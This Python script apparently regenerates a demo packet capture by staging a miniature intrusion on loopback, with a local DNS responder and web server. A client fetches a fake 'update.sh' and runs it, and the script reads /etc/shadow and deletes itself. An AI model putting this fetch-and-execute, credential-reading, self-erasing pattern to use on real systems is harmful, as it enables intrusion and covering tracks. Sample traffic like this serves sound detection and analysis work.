#!/usr/bin/env python3
"""The scenario recorded in samples/demo.pcapng (scripts/record-demo.sh regenerates it).

An intrusion in miniature, entirely on loopback: a client resolves a name (a DNS responder
on 127.0.0.1:5353), downloads a script over HTTP (a web server on 127.0.0.1), drops it in
/tmp, makes it executable and runs it; the script reads /etc/shadow, looks around and deletes
itself. Nothing leaves the machine and nothing is left behind.
"""
import http.server
import os
import socket
import stat
import struct
import subprocess
import tempfile
import threading

NAME = "updates.example.test"
PAYLOAD = b"""#!/bin/sh
# a dropped "update": reads credentials, looks around, removes itself
cat /etc/shadow > /dev/null 2>&1
id > /dev/null
uname -a > /dev/null
rm -f "$0"
"""


def dns_responder(sock):
    """Answers one A query with 127.0.0.1."""
    query, peer = sock.recvfrom(512)
    (txid,) = struct.unpack("!H", query[:2])
    question = query[12:]
    header = struct.pack("!HHHHHH", txid, 0x8180, 1, 1, 0, 0)
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("127.0.0.1")
    sock.sendto(header + question + answer, peer)


def dns_query(name, port):
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    query = struct.pack("!HHHHHH", 0x0507, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(query, ("127.0.0.1", port))
        reply, _ = s.recvfrom(512)
    return socket.inet_ntoa(reply[-4:])


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/x-shellscript")
        self.send_header("Content-Length", str(len(PAYLOAD)))
        self.end_headers()
        self.wfile.write(PAYLOAD)

    def log_message(self, *args):
        pass


def http_get(addr, port, path):
    request = (
        f"GET {path} HTTP/1.1\r\nHost: {NAME}:{port}\r\n"
        "User-Agent: curl/7.88.1\r\nAccept: */*\r\nConnection: close\r\n\r\n"
    )
    with socket.create_connection((addr, port), timeout=5) as s:
        s.sendall(request.encode())
        reply = b""
        while chunk := s.recv(4096):
            reply += chunk
    return reply.split(b"\r\n\r\n", 1)[1]


def main():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 5353))
    threading.Thread(target=dns_responder, args=(udp,), daemon=True).start()
    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.handle_request, daemon=True).start()

    addr = dns_query(NAME, 5353)
    body = http_get(addr, server.server_port, "/update.sh")
    workdir = tempfile.mkdtemp(prefix="osprey-demo.")
    dropped = os.path.join(workdir, "update.sh")
    with open(dropped, "wb") as f:
        f.write(body)
    os.chmod(dropped, stat.S_IRWXU)
    subprocess.run([dropped], check=True)
    os.rmdir(workdir)
    server.server_close()
    udp.close()


if __name__ == "__main__":
    main()
